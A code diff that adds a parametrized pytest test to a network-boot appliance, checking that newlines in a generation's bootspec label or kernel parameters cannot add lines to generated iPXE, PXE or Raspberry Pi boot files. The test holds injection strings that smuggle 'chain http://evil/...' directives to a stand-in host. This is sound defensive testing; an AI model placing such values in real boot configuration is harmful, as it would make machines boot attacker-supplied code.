@@ -21,7 +21,7 @@ from appliance.boot import Generated, StoreFile, gather_inputs, render_tree
 from appliance.config import parse_config
 from appliance.control.state_model import HostState, Trial
 from appliance.control.snapshot import build_host_snapshot
-from appliance.demo.store import add_generation, make_firmware, make_toplevel
+from appliance.demo.store import add_generation, edit_bootspec, make_firmware, make_toplevel
 from appliance.errors import ConfigError, UnknownGeneration
 from appliance.nix import read_profile
 from appliance.boot.gather import store_roots
@@ -669,3 +669,30 @@ def test_pi_config_txt_lines_naming_files_that_are_not_served_are_refused(env_fa
     with pytest.raises(ConfigError) as exc:
         env.config
     assert "hosts.h.config_txt" in str(exc.value)
+
+
+# -- hostile generations: nothing a toplevel holds can add a line to a generated file ------------
+
+
+GENERATED = {"rpi": ("dc-a6-32-01-02-03/cmdline.txt", "dc-a6-32-01-02-03/config.txt"),
+             "uboot": ("pxelinux.cfg/01-52-54-00-ab-cd-ef",), "ipxe": ("boot.ipxe",)}
+
+
+@pytest.mark.parametrize("boot", sorted(GENERATED))
+def test_newlines_in_a_generation_never_reach_a_generated_file(env_factory, boot):
+    """A bootspec label or kernel parameter with a newline would add a line of the attacker's
+    choosing to boot.ipxe / the PXE menu / cmdline.txt.  The label is shown on one line; the
+    generation with such a parameter is listed as invalid and the one before it is served."""
+    host = {} if boot == "rpi" else {"mac": IPXE_MAC, "cmdline": "ip=dhcp"}
+    env = env_factory(boot, **host)
+    good = env.add("1")
+    edit_bootspec(env.tops[good], label="NixOS 1\nchain http://evil/label")
+    bad = env.add("2")
+    edit_bootspec(env.tops[bad], kernelParams=["quiet\n:evil\nchain http://evil/params"])
+    snap = env.snapshot()
+    assert not snap.profile.get(bad).valid and snap.selection.number == good
+    for path in GENERATED[boot]:
+        text = data(snap.tree.files[path]).decode()
+        assert not any(line.lstrip().startswith(("chain", ":evil")) for line in text.splitlines()), text
+        if boot != "rpi":   # the menus show the label, on its line
+            assert "generation 1: NixOS 1 chain http://evil/label (" in text
